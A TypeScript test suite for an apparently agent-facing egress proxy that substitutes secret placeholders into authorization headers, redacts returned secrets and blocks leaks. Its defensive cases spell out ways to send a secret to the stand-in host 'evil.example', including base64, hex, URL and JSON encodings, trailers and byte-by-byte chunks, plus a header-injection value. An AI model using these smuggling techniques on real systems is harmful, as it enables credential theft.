import assert from 'node:assert/strict';
import { test, describe, type TestContext } from 'node:test';
import { connect as connectHttp2 } from 'node:http2';
import { gzipSync } from 'node:zlib';
import type { BoundSecret } from '../../../helper/egress/contract.ts';
import { headersOf, type OutsideWorld, secretCalled, textOf, until, worldFor } from '../../kit/passage.ts';

const limits = { timeout: 8_000 };
const value = 'sk-Real/Value+"with" ünusual~123';
const token = secretCalled('token', value);
const other = secretCalled('other', 'another-real-value-42', [{ host: '*.other.example' }]);
const secrets: readonly BoundSecret[] = [token, other];
const { placeholder } = token;

/** A host that answers with the `Authorization` it was given, and everything else it was told. */
async function echoing(context: TestContext): Promise<OutsideWorld & { readonly heard: string[] }> {
  const outside = await worldFor(context);
  const heard: string[] = [];
  const handler: Parameters<OutsideWorld['https']>[1] = (asked, answer) => {
    heard.push(JSON.stringify([asked.url, asked.rawHeaders]));
    asked.on('data', (piece: Buffer) => heard.push(piece.toString('latin1'))).on('error', () => undefined);
    asked.on('end', () => answer.end('done'));
  };
  await outside.https('api.example', handler);
  await outside.https('evil.example', handler);
  await outside.http('api.example', handler);
  return Object.assign(outside, { heard });
}

const request = (fields: string, body = '', target = '/', host = 'api.example'): string =>
  `POST ${target} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${fields}Content-Length: ${Buffer.byteLength(body, 'latin1')}\r\n\r\n${body}`;
const latin1 = (text: string): string => Buffer.from(text).toString('latin1');

/** A body without its chunks (RFC 9112, 7.1). */
function unchunked(body: string): string {
  let [rest, plain] = [body, ''];
  for (let size = Number.parseInt(rest, 16); size > 0; size = Number.parseInt(rest, 16)) {
    const start = rest.indexOf('\r\n') + 2;
    plain += rest.slice(start, start + size);
    rest = rest.slice(start + size + 2);
  }
  return plain;
}

test('a placeholder in its own header becomes the value, towards its own host', limits, async (context) => {
  const outside = await echoing(context);
  const { client } = await outside.secured({ secrets });
  client.write(request(`Authorization: Bearer ${placeholder}\r\n`));
  assert.match(await textOf(client), /^HTTP\/1\.1 200 /);
  assert.ok(outside.heard[0]?.includes(JSON.stringify(`Bearer ${latin1(value)}`)));
  assert.deepEqual((await outside.told('substituted')).detail, { secret: 'token', header: 'authorization' });
  assert.ok(!JSON.stringify([outside.reported, outside.decided]).includes('sk-Real'));
});

test('also inside Basic', limits, async (context) => {
  const outside = await echoing(context);
  const { client } = await outside.secured({ secrets });
  client.write(request(`authorization: Basic ${Buffer.from(`me:${placeholder}`).toString('base64')}\r\n`));
  await textOf(client);
  assert.ok(outside.heard[0]?.includes(Buffer.from(`me:${value}`).toString('base64')));
});

test('also over HTTP/2', limits, async (context) => {
  const outside = await worldFor(context);
  const server = await outside.http2('api.example');
  const heard: (string | undefined)[] = [];
  server.on('stream', (far, headers) => {
    heard.push(headers.authorization);
    far.respond({ ':status': 200, 'x-echo': headers.authorization });
    far.end(`you said ${headers.authorization ?? ''}`);
  });
  const { client } = await outside.secured({ secrets: [secretCalled('token', 'sk-plain-value-1234')], alpn: ['h2'] });
  const session = connectHttp2('https://api.example', { createConnection: () => client });
  context.after(() => session.destroy());
  const stream = session.request({ ':path': '/', authorization: `Bearer ${placeholder}` });
  const { headers } = await headersOf(stream, 'response');
  assert.equal(headers['x-echo'], `Bearer ${placeholder}`);
  assert.equal(await until(stream, 'cdef'), `you said Bearer ${placeholder}`);
  assert.deepEqual(heard, ['Bearer sk-plain-value-1234']);
  session.close();
});

test(
  'in a body to its own host a placeholder stays what it is: an agent that printed its environment can go on',
  limits,
  async (context) => {
    const outside = await echoing(context);
    const { client } = await outside.secured({ secrets });
    client.write(request(`Authorization: Bearer ${placeholder}\r\n`, `KEY=${placeholder}`));
    assert.match(await textOf(client), /^HTTP\/1\.1 200 /);
    assert.ok(outside.heard.join('').includes(`KEY=${placeholder}`));
    assert.equal(outside.heard.slice(1).join('').includes('sk-Real'), false);
  },
);

test('and one of another secret does not pass there', limits, async (context) => {
  const outside = await echoing(context);
  const { client } = await outside.secured({ secrets });
  client.write(request('', `KEY=${other.placeholder}`));
  assert.match(await textOf(client), /^HTTP\/1\.1 403 /);
});

describe('a placeholder that heads elsewhere is refused and nothing of it goes out', () => {
  const json = Array.from(placeholder)
    .map((letter) => `\\u00${letter.charCodeAt(0).toString(16)}`)
    .join('');
  const percent = Array.from(placeholder)
    .map((letter) => `%${letter.charCodeAt(0).toString(16)}`)
    .join('');
  const mixed = Array.from(placeholder)
    .map((letter, at) => (at % 3 === 0 ? `%${letter.charCodeAt(0).toString(16)}` : letter))
    .join('');
  const base64 = (before: string): string => Buffer.from(`${before}${placeholder} and more`).toString('base64');
  const own = `Authorization: Bearer ${placeholder}\r\n`;
  const cases: readonly (readonly [name: string, bytes: string, options?: { readonly host?: string }])[] = [
    ['another header', request(`X-Token: ${placeholder}\r\n`)],
    ['a cookie', request(`Cookie: a=b; t=${placeholder}\r\n`)],
    ['the name of a header', request(`${placeholder}: a\r\n`)],
    ['the path', request('', '', `/${placeholder}`)],
    ['the query', request('', '', `/?t=${placeholder}`)],
    ['the query, escaped', request('', '', `/?t=${percent}`)],
    ['the query, escaped twice', request('', '', `/?t=${percent.replaceAll('%', '%25')}`)],
    ['the path in base64', request('', '', `/${base64('x')}`)],
    ['its own header in base64', request(`Authorization: Bearer ${base64('')}\r\n`)],
    ['its own header twice encoded', request(`Authorization: Basic ${Buffer.from(base64('')).toString('base64')}\r\n`)],
    ['its own header beside the plain one', request(`Authorization: Bearer ${placeholder} ${base64('')}\r\n`)],
    ['a body', request('', `token=${placeholder}`, '/', 'evil.example'), { host: 'evil.example' }],
    ['a body beside its own header', request(own, `token=${placeholder}`, '/', 'evil.example'), { host: 'evil.example' }],
    ['a body, escaped for URLs', request('', `a=${percent}`, '/', 'evil.example'), { host: 'evil.example' }],
    ['a body, escaped for URLs in part', request('', `a=${mixed}`, '/', 'evil.example'), { host: 'evil.example' }],
    ['a body in JSON escapes', request('', `{"a":"${json}"}`, '/', 'evil.example'), { host: 'evil.example' }],
    [
      'a body in hexadecimal',
      request('', Buffer.from(placeholder).toString('hex').toUpperCase(), '/', 'evil.example'),
      { host: 'evil.example' },
    ],
    ['a body in base64', request('', base64(''), '/', 'evil.example'), { host: 'evil.example' }],
    ['a body in base64, one later', request('', base64('x'), '/', 'evil.example'), { host: 'evil.example' }],
    ['a body in base64, two later', request('', base64('xy'), '/', 'evil.example'), { host: 'evil.example' }],
    ['a body in base64 of lines', request('', base64('xy').replace(/.{19}/g, '$&\r\n'), '/', 'evil.example'), { host: 'evil.example' }],
    [
      'a body in base64 for URLs',
      request('', Buffer.from(`??>${placeholder}`).toString('base64url'), '/', 'evil.example'),
      { host: 'evil.example' },
    ],
    ['another host', request(own, '', '/', 'evil.example'), { host: 'evil.example' }],
    ['a host of another secret', request(`Authorization: Bearer ${other.placeholder}\r\n`)],
  ];
  for (const [name, bytes, options] of cases)
    test(name, limits, async (context) => {
      const outside = await echoing(context);
      const { client, over } = await outside.secured({ secrets, ...options });
      client.write(bytes);
      assert.match(await textOf(client), /^HTTP\/1\.1 403 [^]*LASSO: the placeholder of the secret \S+(?:token|other)/);
      await over;
      assert.equal((await outside.told('placeholder-refused')).type, 'violation');
      assert.ok(!outside.heard.join('').includes('done'));
      assert.ok(!outside.heard.slice(1).some((piece) => piece.includes(placeholder)));
      assert.ok(!outside.heard.join('').includes('sk-Real') || name.includes('beside'));
    });
  test('plain HTTP', limits, async (context) => {
    const outside = await echoing(context);
    const { client } = outside.plain({ secrets: [secretCalled('token', value, [{ host: 'api.example', ports: [80] }])] });
    client.write(request(own));
    assert.match(await textOf(client), /^HTTP\/1\.1 403 /);
    assert.deepEqual(outside.heard, []);
  });
  test('another port of its host', limits, async (context) => {
    const outside = await echoing(context);
    const { client } = await outside.secured({ secrets: [secretCalled('token', value, [{ host: 'api.example', ports: [8443] }])] });
    client.write(request(own));
    assert.match(await textOf(client), /^HTTP\/1\.1 403 /);
  });
  test('a trailer', limits, async (context) => {
    const outside = await echoing(context);
    const { client } = await outside.secured({ secrets });
    client.write(
      `POST / HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n1\r\na\r\n0\r\nX-T: ${placeholder}\r\n\r\n`,
    );
    assert.match(await textOf(client), /^HTTP\/1\.1 403 /);
  });
  test('a body, one byte at a time, after much else has gone out', limits, async (context) => {
    const outside = await echoing(context);
    const { client } = await outside.secured({ secrets, host: 'evil.example' });
    client.write('POST / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n');
    const chunk = (text: string): void => void client.write(`${text.length.toString(16)}\r\n${text}\r\n`);
    chunk('x'.repeat(200_000));
    for (const letter of placeholder) {
      chunk(letter);
      await new Promise((resolve) => setImmediate(resolve));
    }
    chunk('more');
    client.write('0\r\n\r\n');
    assert.match(await textOf(client), /^HTTP\/1\.1 403 /);
    assert.ok(!outside.heard.join('').includes(placeholder));
    assert.ok(!outside.heard.join('').includes('more'));
  });
});

test('a secret that is not to be had is told by name, and the request does not go out', limits, async (context) => {
  const outside = await echoing(context);
  const missing: BoundSecret = { ...token, value: () => Promise.reject(new Error('the variable is not set')) };
  const { client } = await outside.secured({ secrets: [missing] });
  client.write(request(`Authorization: Bearer ${placeholder}\r\n`));
  assert.match(await textOf(client), /^HTTP\/1\.1 502 [^]*the secret \S+token\S+ is not to be had: the variable is not set\./);
  assert.deepEqual(outside.heard, []);
});

for (const odd of ['', 'a\r\nX-Evil: 1', 'a\0b', ' a ', 'line\n'])
  test(`a value that cannot stand in a header is not sent: ${JSON.stringify(odd)}`, limits, async (context) => {
    const outside = await echoing(context);
    const { client } = await outside.secured({ secrets: [secretCalled('token', odd)] });
    client.write(request(`Authorization: Bearer ${placeholder}\r\n`));
    assert.match(await textOf(client), /^HTTP\/1\.1 502 /);
    assert.deepEqual(outside.heard, []);
  });

describe('a value that comes back is a placeholder again', () => {
  const forms: Readonly<Record<string, string>> = {
    plain: value,
    'escaped for URLs': encodeURIComponent(value),
    'in JSON': JSON.stringify({ a: value }),
    'in base64': Buffer.from(`x${value}yz`).toString('base64'),
    'in base64 for URLs': Buffer.from(`xy${value}`).toString('base64url'),
    'in hexadecimal': Buffer.from(value).toString('hex'),
  };
  const telling = /sk-Real|unusual|Value|c2stUmVhb|stUmVhb|LVJlYW|736b2d52/i;
  for (const [name, form] of Object.entries(forms))
    for (const how of ['whole', 'in pieces', 'gzip'] as const)
      test(`${name}, ${how}`, limits, async (context) => {
        const outside = await worldFor(context);
        const bytes = Buffer.from(`before ${form} after`);
        const encodings: (string | undefined)[] = [];
        await outside.https('api.example', (asked, answer) => {
          encodings.push(asked.headers['accept-encoding']);
          if (how === 'gzip') return void answer.writeHead(200, { 'Content-Encoding': 'gzip' }).end(gzipSync(bytes));
          if (how === 'whole') return void answer.writeHead(200, { 'Content-Length': bytes.length }).end(bytes);
          for (const byte of bytes) answer.write(Buffer.from([byte]));
          answer.end();
        });
        const { client } = await outside.secured({ secrets });
        client.write(request(`Authorization: Bearer ${placeholder}\r\nAccept-Encoding: gzip, br\r\n`));
        const said = await textOf(client);
        const plain = unchunked(said.slice(said.indexOf('\r\n\r\n') + 4));
        assert.doesNotMatch(plain, telling);
        assert.ok(plain.includes(placeholder) && plain.includes('before ') && plain.includes(' after'), plain);
        assert.deepEqual(encodings, ['identity']);
        assert.deepEqual((await outside.told('redacted')).detail, { count: 1 });
      });
  test('in a header and in a trailer, also of a request that sent no secret', limits, async (context) => {
    const outside = await worldFor(context);
    const plain = secretCalled('token', 'sk-plain-value-1234');
    await outside.https('api.example', (_asked, answer) => {
      answer.writeHead(200, { 'X-Echo': 'sk-plain-value-1234', Trailer: 'X-Last' });
      answer.write('a');
      answer.addTrailers({ 'X-Last': 'sk-plain-value-1234' });
      answer.end();
    });
    const { client } = await outside.secured({ secrets: [plain] });
    client.write(`GET / HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer ${placeholder}\r\n\r\n`);
    assert.match(await until(client, '\r\n0\r\n'), new RegExp(`X-Echo: ${placeholder}`));
    client.write('GET / HTTP/1.1\r\nHost: api.example\r\nConnection: close\r\n\r\n');
    const said = await textOf(client);
    assert.match(said, new RegExp(`X-Echo: ${placeholder}[^]*X-Last: ${placeholder}`));
    assert.doesNotMatch(said, /sk-plain/);
  });
  test('within a WebSocket by stars, so that frames keep their length', limits, async (context) => {
    const outside = await worldFor(context);
    const server = await outside.https('api.example', () => undefined);
    let extensions: string | undefined = 'unasked';
    server.on('upgrade', (asked, socket) => {
      extensions = asked.headers['sec-websocket-extensions'];
      socket.write('HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n');
      socket.write(`<${asked.headers.authorization ?? ''}>`);
      socket.end();
    });
    const { client } = await outside.secured({ secrets: [secretCalled('token', 'sk-plain-value-1234')] });
    client.write(
      `GET / HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: Bearer ${placeholder}\r\n\r\n`,
    );
    assert.match(await textOf(client), /<Bearer \*{19}>$/);
    assert.equal(extensions, undefined);
  });
});
